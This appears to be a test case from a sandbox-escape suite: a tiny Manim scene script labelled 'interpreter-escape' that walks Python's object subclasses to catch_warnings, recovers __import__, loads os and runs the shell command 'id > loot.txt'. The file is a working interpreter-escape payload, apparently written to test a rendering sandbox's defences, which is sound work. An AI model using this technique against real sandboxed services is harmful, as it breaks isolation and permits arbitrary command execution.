# family: interpreter-escape
# layer: policy
# attack: walk object.__subclasses__() to a class that imports os
from manim import *


class Attack(Scene):
    def construct(self):
        for c in ().__class__.__base__.__subclasses__():
            if c.__name__ == "catch_warnings":
                c()._module.__builtins__["__import__"]("os").system("id > loot.txt")
        self.wait(0.1)
